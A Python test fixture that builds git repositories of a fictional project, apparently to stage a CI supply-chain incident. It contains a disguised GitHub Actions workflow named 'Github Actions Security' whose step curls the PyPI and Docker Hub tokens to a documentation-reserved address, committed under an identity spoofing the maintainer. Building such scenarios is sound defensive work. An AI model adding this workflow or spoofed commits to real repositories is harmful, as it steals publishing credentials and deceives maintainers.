"""Git repositories of a small fictional project, and what was done to them."""

import subprocess
from pathlib import Path

from servers.forge import GIT_ENVIRONMENT

RELEASE_WORKFLOW = """\
name: Release
on:
  push:
    tags: ["v*"]
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: python -m build
      - uses: pypa/gh-action-pypi-publish@release/v1
        with:
          password: ${{ secrets.PYPI_API_TOKEN }}
"""

IMAGE_WORKFLOW = """\
name: Image
on:
  push:
    branches: [main]
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - uses: docker/login-action@v3
        with:
          username: example-org
          password: ${{ secrets.DOCKERHUB_TOKEN }}
"""

# The incident's workflow, with an address that is reserved for documentation.
THIEF_ADDRESS = "192.0.2.66"
STOLEN_SECRETS = ["DOCKERHUB_TOKEN", "PYPI_API_TOKEN"]
MALICIOUS_PATH = ".github/workflows/github_actions_security.yml"
MALICIOUS_WORKFLOW = """\
name: Github Actions Security
on:
  workflow_dispatch:
  push:
jobs:
  send-secrets:
    runs-on: ubuntu-latest
    steps:
      - name: Prepare Cache Busting
        run: |
          curl -s -X POST -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&DOCKERHUB_TOKEN=${{ secrets.DOCKERHUB_TOKEN }}' http://192.0.2.66/collect
"""

MAINTAINER = ("Mara Example", "mara@example.org")
THIEF = ("Mara Example", "mara@users.noreply.example.org")


def project_files(name: str) -> dict[str, str]:
    return {
        "pyproject.toml": f'[project]\nname = "{name}"\nversion = "1.0"\n',
        ".github/workflows/release.yml": RELEASE_WORKFLOW,
        ".github/workflows/image.yml": IMAGE_WORKFLOW,
    }


class WorkTree:
    """A clone on somebody's disk. Every commit says by whom it claims to be."""

    def __init__(self, folder: Path, remote: str | None = None):
        self.folder = folder
        folder.mkdir(parents=True)
        self.git("init", "--quiet", "--initial-branch=main")
        if remote:
            self.git("remote", "add", "origin", remote)

    def git(self, *arguments: str, author=MAINTAINER, **environment: str) -> str:
        name, address = author
        done = subprocess.run(
            ["git", *arguments], cwd=self.folder, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL,
            env={**GIT_ENVIRONMENT, "GIT_AUTHOR_NAME": name, "GIT_AUTHOR_EMAIL": address, "GIT_COMMITTER_NAME": name,
                 "GIT_COMMITTER_EMAIL": address, **environment})
        assert done.returncode == 0, f"git {' '.join(arguments)}: {done.stderr}"
        return done.stdout.strip()

    def commit(self, message: str, files: dict[str, str | None], *, author=MAINTAINER, when: str | None = None) -> str:
        """Writes (or, for None, removes) files, commits them, answers the commit's id."""
        for path, text in files.items():
            if text is None:
                (self.folder / path).unlink()
            else:
                (self.folder / path).parent.mkdir(parents=True, exist_ok=True)
                (self.folder / path).write_text(text)
        self.git("add", "--all")
        dates = {"GIT_AUTHOR_DATE": when, "GIT_COMMITTER_DATE": when} if when else {}
        self.git("commit", "--quiet", "--message", message, author=author, **dates)
        return self.git("rev-parse", "HEAD")
